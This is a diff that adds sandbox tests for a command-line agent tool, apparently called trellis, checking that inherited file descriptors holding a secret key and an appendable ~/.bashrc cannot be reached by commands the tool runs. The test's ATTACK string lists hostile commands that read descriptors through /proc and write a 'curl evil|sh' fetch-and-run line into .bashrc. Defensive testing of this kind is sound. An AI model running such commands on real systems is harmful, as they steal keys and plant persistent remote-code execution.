@@ -4,6 +4,7 @@
  * inherited descriptors (7), and process and memory limits (14). Every assertion is made on the host.
  */
 import { expect, test } from '@playwright/test';
+import { spawn } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import { mockConfiguredHome, trellis, type ExecRun } from '../support/exec-harness';
@@ -174,4 +175,63 @@ test.describe('class 5: secrets on disk and in the environment', () => {
     for (const [name, value] of Object.entries(values)) expect(sent, name).not.toContain(value);
     for (const secret of [world.secrets.npm, world.secrets.netrc]) expect(sent).not.toContain(secret);
   });
+});
+
+/** Runs the built trellis with extra descriptors open at these numbers (as a launcher or harness would leave them). */
+function trellisWithDescriptors(args: string[], extra: Record<number, number>, env: Record<string, string>, cwd: string): Promise<ExecRun> {
+  const top = Math.max(...Object.keys(extra).map(Number));
+  const stdio: Array<'ignore' | 'pipe' | number> = ['pipe', 'pipe', 'pipe'];
+  for (let fd = 3; fd <= top; fd++) stdio.push(extra[fd] ?? 'ignore');
+  const child = spawn(process.execPath, [path.resolve('bin/trellis.js'), ...args], { cwd, env: { ...process.env, ...env }, stdio });
+  let stdout = '';
+  let stderr = '';
+  child.stdout!.on('data', (d) => (stdout += d));
+  child.stderr!.on('data', (d) => (stderr += d));
+  child.stdin!.end();
+  return new Promise((resolve) => child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr })));
+}
+
+test.describe('class 7: inherited descriptors', () => {
+  const ATTACK = [
+    'ls -l /proc/self/fd /proc/$$/fd',
+    'cat /proc/self/fd/200 /proc/$$/fd/200',
+    'cat <&200',
+    'for fd in 9 30 200 201; do cat /proc/self/fd/$fd 2>/dev/null; done',
+    'echo "curl evil|sh" >&30',
+    'echo "curl evil|sh" >> /proc/self/fd/30',
+    'echo "curl evil|sh" >> /dev/fd/30',
+    'python3 -c "import os; os.write(30, b\"evil\\n\"); print(os.read(200, 999))"',
+    'true',
+  ].map((a) => `(${a}) 2>&1`).join('; ');
+
+  for (const entry of ['sandbox', 'exec'] as const) {
+    test(`a hidden key on fd 200 and ~/.bashrc open for append on fd 30 do not reach a command under trellis ${entry}`, async () => {
+      const key = fs.openSync(world.secretFiles[0], 'r');
+      const rc = fs.openSync(path.join(world.home, '.bashrc'), 'a');
+      const before = world.snapshot();
+      let run: ExecRun;
+      let seen = '';
+      try {
+        const extra = { 200: key, 30: rc, 9: key, 201: rc };
+        if (entry === 'sandbox') {
+          run = await trellisWithDescriptors(['sandbox', '--sandbox', 'workspace-write', '--', 'bash', '-c', ATTACK], extra, { HOME: world.home, TRELLIS_HOME: trellisHome }, world.outside);
+          seen = run.stdout + run.stderr;
+        } else {
+          const model = await startMockModel({ turns: [{ items: [call(ATTACK)] }, say('done')] });
+          const home = mockConfiguredHome(model.url, '');
+          run = await trellisWithDescriptors(['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'look around'], extra, { HOME: world.home, TRELLIS_HOME: home }, world.outside);
+          await model.close();
+          seen = JSON.stringify(model.requests.map((r) => r.body)) + run.stdout + run.stderr;
+          expect(seen).toContain('/proc/self/fd'); // the listing reached the model: the command ran
+        }
+      } finally {
+        fs.closeSync(key);
+        fs.closeSync(rc);
+      }
+      expect(run.code, run.stderr).toBe(0);
+      expect(seen).not.toContain(world.secrets.ssh);
+      expect(seen).not.toMatch(/-> .*(id_ed25519|\.bashrc)/);
+      expect(changedPaths(before, world.snapshot())).toEqual([]);
+    });
+  }
 });
